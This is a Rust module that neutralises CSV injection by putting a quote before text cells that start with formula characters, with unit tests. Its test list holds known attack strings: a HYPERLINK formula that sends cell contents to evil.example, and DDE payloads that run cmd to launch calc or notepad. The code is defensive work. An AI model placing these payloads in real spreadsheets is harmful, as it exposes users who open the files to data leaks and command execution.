//! CSV that a spreadsheet opens safely. A text cell beginning with `=`, `+`,
//! `-`, `@` (or their full-width forms, which Japanese Excel also reads as a
//! formula), a tab or a carriage return is written with a leading `'`, so the
//! cell shows as text and never runs (OWASP "CSV injection"). Numbers are typed
//! cells and are written as they are: a negative yen figure is not a formula.

use super::{Cell, Sheet};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula (or, tab and
/// carriage return, hide one behind them).
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Whether `s` is a plain decimal number (`-3`, `+12.5`): a spreadsheet reads it
/// as that number, nothing more.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// `text` as a spreadsheet must see it: with a leading `'` when it could be read
/// as a formula (also after leading spaces, which some spreadsheets skip).
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let first = text.trim_start_matches([' ', '\u{3000}']).chars().next();
    match first {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The cell as it goes into a CSV file.
pub fn cell_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(s) => neutralise(s).into_owned(),
        other => other.plain(),
    }
}

/// The sheet as CSV for Excel: UTF-8 with a BOM, the header row first, every
/// text cell neutralised.
pub fn sheet_csv(sheet: &Sheet) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = w.write_record(sheet.headers.iter().map(|h| neutralise(h).into_owned()));
    for row in &sheet.rows {
        let _ = w.write_record(row.iter().map(cell_text));
    }
    format!("\u{FEFF}{}", String::from_utf8_lossy(&w.into_inner().unwrap_or_default()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use rust_decimal::Decimal;

    /// Well-known payloads (OWASP, the DDE and HYPERLINK families) and their
    /// full-width forms.
    const PAYLOADS: [&str; 14] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "\t=1+1",
        "\r=1+1",
        "＝HYPERLINK(\"http://evil.example\")",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "  =1+1",
        "\u{3000}=1+1",
    ];

    #[test]
    fn every_payload_is_written_as_text() {
        for p in PAYLOADS {
            let out = neutralise(p);
            assert!(out.starts_with('\''), "{p:?} → {out:?}");
            assert_eq!(&out[1..], p, "the text itself is kept");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_are_untouched() {
        for s in ["東京中央年金事務所", "90101", "-3", "+81", "-24.8", "", "a=b", "1-2", "3.5"] {
            assert_eq!(neutralise(s), s);
        }
        // Not plain numbers: a sign with nothing after it, or a formula after digits.
        for s in ["-", "+", "-1+1", "-.5", "-1.", "+1e3"] {
            assert!(neutralise(s).starts_with('\''), "{s}");
        }
    }

    #[test]
    fn numbers_are_numbers_and_text_is_neutralised_in_the_file() {
        let sheet = Sheet {
            name: "t".into(),
            headers: vec!["name".into(), "yen".into(), "ratio".into()],
            rows: vec![
                vec![
                    Cell::string("=HYPERLINK(\"x\")"),
                    Cell::Yen(-463_534),
                    Cell::Ratio(Decimal::new(-5, 1)),
                ],
                vec![Cell::string("office, \"quoted\""), Cell::Int(-1), Cell::Empty],
            ],
        };
        let csv = sheet_csv(&sheet);
        assert_eq!(
            csv,
            "\u{FEFF}name,yen,ratio\n\"'=HYPERLINK(\"\"x\"\")\",-463534,-0.5\n\"office, \"\"quoted\"\"\",-1,\n"
        );
    }
}
